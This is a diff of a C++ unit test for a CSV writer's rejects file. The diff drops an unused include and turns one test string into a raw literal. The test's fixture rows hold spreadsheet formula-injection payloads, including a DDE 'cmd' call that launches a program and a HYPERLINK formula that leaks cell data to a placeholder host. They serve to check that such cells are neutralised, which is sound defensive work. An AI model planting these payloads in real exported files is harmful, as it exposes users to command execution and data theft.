@@ -5,7 +5,6 @@
 
 #include "catch.hpp"
 #include "file_size_limit.hpp"
-#include "input_error.hpp"
 #include "rows/column_mapping.hpp"
 #include "temp_directory.hpp"
 
@@ -15,7 +14,6 @@ using cis::examples::ColumnMapping;
 using cis::examples::CsvReader;
 using cis::examples::CsvRecord;
 using cis::examples::CsvWriter;
-using cis::examples::InputError;
 using cis::examples::RejectsFile;
 using cis::test::read_file;
 
@@ -219,7 +217,7 @@ TEST_CASE("no cell of the rejects is a formula, and all are read back as they we
     const cis::test::TempDirectory directory;
     const Cells header{"=title", "name", "data.note"};
     const std::vector<Cells> rows{
-        {"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.invalid/?\"&A1,\"CV\")"},
+        {"=1+1", "=cmd|' /C calc'!A0", R"csv(=HYPERLINK("http://x.invalid/?"&A1,"CV"))csv"},
         {"'=1", "''@x", "''\t"},
         {"-1.5", "'-1.5", "'-1.5 x"},
         {"+49 170", "\xC2\xA0-Ann",
